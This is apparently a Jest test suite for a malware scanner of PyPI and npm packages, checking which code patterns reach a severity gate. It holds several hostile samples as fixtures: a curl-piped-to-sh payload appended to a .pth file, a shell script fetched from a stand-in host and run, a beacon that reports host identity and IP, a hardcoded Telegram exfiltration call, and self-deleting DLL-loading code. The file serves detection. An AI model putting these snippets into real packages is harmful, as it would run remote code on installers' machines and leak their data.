import { describe, expect, it } from '@jest/globals';
import { analyzePackage } from '../../../src/analysis/index.js';
import type { Ecosystem, Finding } from '../../../src/types.js';

// Shapes of code found in popular, legitimate packages (rewritten here, not copied) that an
// earlier engine gated on. Each must stay below the gate; a few carry a malicious twin that must
// still reach it, so the fix is a distinction and not a blind spot.
const setup = "from setuptools import setup\nsetup(name='demo')\n";

async function scan(files: Record<string, string>, ecosystem: Ecosystem = 'pypi', name = 'demo') {
  const list = Object.entries(files).map(([path, text]) => {
    const data = new TextEncoder().encode(text);
    return { path, data, size: data.length };
  });
  return analyzePackage({ ecosystem, name, version: '1.0.0', files: list });
}
const gating = (findings: Finding[]) =>
  findings.filter((f) => f.severity === 'high' || f.severity === 'critical');

describe('legitimate shapes stay below the gate', () => {
  it('a database test cluster that probes a free port, copies a key file and starts the server', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/cluster.py': [
        'import socket, shutil, subprocess',
        'def find_available_port():',
        '    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
        "    sock.bind(('127.0.0.1', 0))",
        '    return sock.getsockname()[1]',
        'class Cluster:',
        '    def start(self, data_dir):',
        '        port = find_available_port()',
        "        shutil.copy('server.key', data_dir + '/server.key')",
        "        subprocess.run(['pg_ctl', 'start', '-D', data_dir, '-o', f'-p {port}'])",
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });

  it('an API client that compiles code its service generated, returned through a method', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/cloud.py': [
        'import requests',
        'class Backend:',
        '    def generate_source(self, query):',
        "        response = requests.post('https://api.example.com/graphql', json={'query': query})",
        "        return str(response.json()['data']['code'])",
        '    def document(self, query):',
        "        return compile(self.generate_source(query), '<document>', 'exec')",
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });

  it('a console script that dispatches to its own subcommands and reads the environment', async () => {
    // jupyter-core owns `jupyter`; `jupyter lab` runs `jupyter-lab` found on PATH
    const findings = await scan(
      {
        'jupyter_core-1.0/setup.py':
          "from setuptools import setup\nsetup(name='jupyter-core', entry_points={'console_scripts': ['jupyter = jupyter_core.command:main']})\n",
        'jupyter_core-1.0/jupyter_core/__init__.py': '',
        'jupyter_core-1.0/jupyter_core/command.py': [
          'import os, sys',
          'from shutil import which',
          'def _path_with_self():',
          "    return (os.environ.get('PATH') or os.defpath).split(os.pathsep)",
          'def _abspath(subcommand):',
          '    search_path = os.pathsep.join(_path_with_self())',
          "    return which(f'jupyter-{subcommand}', path=search_path)",
          'def main():',
          "    if sys.argv[1] == '--paths':",
          '        env = os.environ',
          "        print(env.get('JUPYTER_PATH'))",
          '        return',
          '    command = _abspath(sys.argv[1])',
          '    os.execvp(command, [command] + sys.argv[2:])',
        ].join('\n'),
      },
      'pypi',
      'jupyter-core',
    );
    expect(gating(findings)).toEqual([]);
  });

  it('a config directory read from one environment variable and turned into a string', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': [
        'import os, urllib.request',
        'from pathlib import Path',
        'def config_dir():',
        "    configdir = os.environ.get('DEMOCONFIGDIR')",
        '    if configdir:',
        '        configdir = Path(configdir).resolve()',
        '    return str(configdir)',
        'def open_url(url):',
        '    return urllib.request.urlopen(url)',
        'CONFIG = config_dir()',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });

  it('a module whose __main__ block downloads a helper runs nothing on import', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/viz.py': [
        'import os, subprocess, urllib.request',
        'def flamegraph(lines, script=None):',
        "    script = script or '/tmp/flamegraph.pl'",
        '    if not os.path.exists(script):',
        "        print('Downloading flamegraph.pl to', script)",
        "        urllib.request.urlretrieve('https://raw.githubusercontent.com/example/FlameGraph/master/flamegraph.pl', script)",
        "        subprocess.run(['chmod', '+x', script])",
        '    return subprocess.run([script], input=lines)',
        'if __name__ == "__main__":',
        '    flamegraph("a;b 1")',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
    expect(findings.find((f) => f.rule === 'py-download-execute')?.severity).toBe('medium');
  });

  it('a function wrapped by a decorator at module level is not called on import', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/index.py': [
        'import os, urllib.request',
        'def with_timeout(seconds):',
        '    return lambda f: f',
        'def open_with_auth(url):',
        "    cfg = open(os.path.expanduser('~/.pypirc')).read()",
        "    return urllib.request.urlopen(urllib.request.Request(url, headers={'Authorization': cfg}))",
        'open_with_auth = with_timeout(15)(open_with_auth)',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });

  it('the namespace-package line setuptools writes into *-nspkg.pth, and an exec of a literal in a .pth', async () => {
    const nspkg =
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo_ns',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('demo_ns', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('demo_ns', [os.path.dirname(p)])));m = m or sys.modules.setdefault('demo_ns', types.ModuleType('demo_ns'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
    const findings = await scan({
      'demo-1.0-nspkg.pth': nspkg,
      'demo-cov.pth':
        "import os, sys;exec('if \\'DEMO_COV\\' in os.environ:\\n from demo.embed import init\\n init()\\n')\n",
    });
    expect(gating(findings)).toEqual([]);
    expect(findings.filter((f) => f.file === 'demo-1.0-nspkg.pth')).toEqual([]);
    // a payload appended to the template is not the template
    const tampered = await scan({
      'demo-1.0-nspkg.pth':
        nspkg.trimEnd() + ";__import__('os').system('curl -s https://x.example.net | sh')\n",
    });
    expect(gating(tampered)).not.toEqual([]);
  });

  it('math letters in strings, an exception class looked up by a runtime name, and a bytecode cache', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/math.py': "FONTS = {'\\\\mathbb{A}': '𝔸', '\\\\mathbb{B}': '𝔹'}\n",
      'demo-1.0/demo/pty.py': [
        'import builtins',
        'def raise_child_error(data):',
        "    name, msg = data.split(b':', 1)",
        "    raise getattr(builtins, name.decode('ascii'), Exception)(msg)",
      ].join('\n'),
      'demo-1.0/demo/hook.py': [
        'import marshal',
        'def load(cachename, mod):',
        "    with open(cachename, 'rb') as f:",
        '        code = marshal.loads(f.read())',
        '    exec(code, mod.__dict__)',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });

  it('dup2 onto descriptors other than stdio, and an image test far from an unpickling test', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/tests/test_fds.py': [
        'import os',
        'def fill(conn):',
        '    for i in range(3, 256):',
        '        os.dup2(conn.fileno(), i)',
      ].join('\n'),
      'demo-1.0/demo/tests/test_figure.py': [
        'import pickle',
        'from PIL import Image',
        'def test_image(path):',
        '    return list(Image.open(path).getdata())',
        'def test_pickle(fig):',
        '    return pickle.loads(pickle.dumps(fig))',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });

  it('a launcher whose help text names LD_PRELOAD in a class body', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/launch.py': [
        'import os, subprocess',
        'class Launcher:',
        "    msg = 'the LD_PRELOAD environment variable will not be set'",
        '    def launch(self, cmd, lib):',
        '        env = dict(os.environ, LD_PRELOAD=lib)',
        '        return subprocess.Popen(cmd, env=env)',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });
});

describe('more legitimate shapes', () => {
  it('an auto-completer that evaluates a dotted name it read backwards from tokens', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/completer.py': [
        'def default_arguments(tokens, namespace):',
        '    ids = [t for t in reversed(tokens) if t.isidentifier()]',
        "    obj = eval('.'.join(ids[::-1]), namespace)",
        '    return getattr(obj, "__defaults__", ())',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });

  it('a progress bar that posts to the Telegram bot of whoever configures it', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/contrib/telegram.py': [
        'from os import getenv',
        'from requests import Session',
        'class TelegramIO:',
        "    API = 'https://api.telegram.org/bot'",
        '    def __init__(self, token, chat_id):',
        '        self.session = Session()',
        '        self.token, self.chat_id = token, chat_id',
        '    def write(self, text):',
        "        return self.session.post(f'{self.API}{self.token}/sendMessage', data={'chat_id': self.chat_id, 'text': text})",
        "DEFAULT_TOKEN = getenv('DEMO_TELEGRAM_TOKEN')",
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
    // the same code with the author's own bot token in it is a destination
    const hardcoded = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/report.py': [
        'import requests',
        'def report(text):',
        "    requests.post('https://api.telegram.org/bot6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage', data={'text': text})",
      ].join('\n'),
    });
    expect(gating(hardcoded)).not.toEqual([]);
  });

  it("a package's __main__.py (run by python -m, not by import) that reads the clipboard", async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': 'def paste():\n    return ""\n',
      'demo-1.0/demo/__main__.py': 'import pyperclip\nprint(pyperclip.paste())\n',
    });
    expect(gating(findings)).toEqual([]);
  });

  it("Office's vbaProject.bin shipped as an example file", async () => {
    const ole = new Uint8Array([
      0xd0,
      0xcf,
      0x11,
      0xe0,
      0xa1,
      0xb1,
      0x1a,
      0xe1,
      ...new Array(504).fill(0),
    ]);
    const findings = await analyzePackage({
      ecosystem: 'pypi',
      name: 'demo',
      version: '1.0.0',
      files: [
        { path: 'demo-1.0/setup.py', data: new TextEncoder().encode(setup), size: setup.length },
        { path: 'demo-1.0/examples/vbaProject.bin', data: ole, size: ole.length },
      ],
    });
    expect(gating(findings)).toEqual([]);
  });
});

describe('their malicious twins still reach the gate', () => {
  it('a helper fetched from a random host and run when called', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/post.py': [
        'import os, requests, subprocess',
        'def run():',
        "    p = os.path.expanduser('~/storage.sh')",
        "    open(p, 'wb').write(requests.get('https://fhost.example.org/s.sh').content)",
        '    os.chmod(p, 0o755)',
        "    subprocess.run(['/bin/bash', p])",
      ].join('\n'),
    });
    expect(gating(findings)).not.toEqual([]);
  });

  it('a beacon that looks up the public IP and reports it with host identity when called', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/notify.py': [
        'import socket, os, requests',
        'def notify():',
        "    ip = requests.get('https://api.ipify.org?format=json').json()['ip']",
        "    requests.get('http://collector.example.org:4242/log', params={'h': socket.gethostname(), 'd': os.getcwd(), 'ip': ip})",
      ].join('\n'),
    });
    expect(gating(findings)).not.toEqual([]);
  });
});

describe('self-deleting code', () => {
  it('flags a module that loads a bundled DLL and then deletes its own file', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/colors.py': [
        'import ctypes, os',
        'def supported():',
        '    try:',
        "        lib = ctypes.CDLL(os.path.dirname(__file__) + '/terminate.dll')",
        "        return bool(lib.envir(b'x'))",
        '    finally:',
        '        os.remove(__file__)',
      ].join('\n'),
    });
    expect(gating(findings).map((f) => f.rule)).toContain('code-anti-analysis');
  });

  it('leaves a cleanup of temporary files alone', async () => {
    const findings = await scan({
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/tmp.py': [
        'import os, tempfile, subprocess',
        'def run(cmd):',
        '    fd, path = tempfile.mkstemp()',
        '    try:',
        '        return subprocess.run(cmd + [path])',
        '    finally:',
        '        os.remove(path)',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });
});

describe('math notation in bundled JavaScript', () => {
  it('keeps a Greek rho with an index that reads like p2 below the gate, but not a Greek-spelled word', async () => {
    const math = await scan(
      {
        'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
        'package/index.js': 'function f(p2, ρ2) { return p2 * ρ2; }\nmodule.exports = f;\n',
      },
      'npm',
    );
    expect(gating(math)).toEqual([]);
    const word = await scan(
      {
        'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
        'package/index.js':
          'const τοκεν = "a"; const tokeν = 1;\nfunction check(τοκεν, token) { return token === τοκεν; }\nmodule.exports = check;\n',
      },
      'npm',
    );
    expect(word.some((f) => f.rule === 'content-confusable-identifier')).toBe(true);
  });
});
